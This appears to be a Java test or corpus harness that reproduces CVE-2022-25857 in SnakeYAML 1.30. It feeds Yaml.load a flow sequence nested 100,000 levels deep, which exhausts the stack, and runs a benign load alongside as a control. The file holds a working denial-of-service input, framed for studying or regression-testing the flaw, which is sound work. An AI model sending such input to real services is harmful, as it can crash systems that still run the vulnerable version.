package corpus.snakeyaml;

import corpus.CorpusDriver;
import org.yaml.snakeyaml.Yaml;

/**
 * SnakeYAML 1.30, CVE-2022-25857: a flow sequence nested without limit ({@code [[[[...]]]]}) makes
 * {@code Yaml.load} recurse in the composer until the stack runs out (fixed in 1.31 by a nesting limit).
 */
public final class Hostile {

    public static void main(String[] args) throws Exception {
        int depth = CorpusDriver.depth(args, 100_000);
        String hostile = CorpusDriver.nested("[", "1", "]", depth);
        CorpusDriver.run("snakeyaml", Yaml.class,
                () -> new Yaml().load("name: benign\nitems: [1, [2, [3]]]\nmap: {a: b}\n"),
                () -> new Yaml().load(hostile));
    }
}
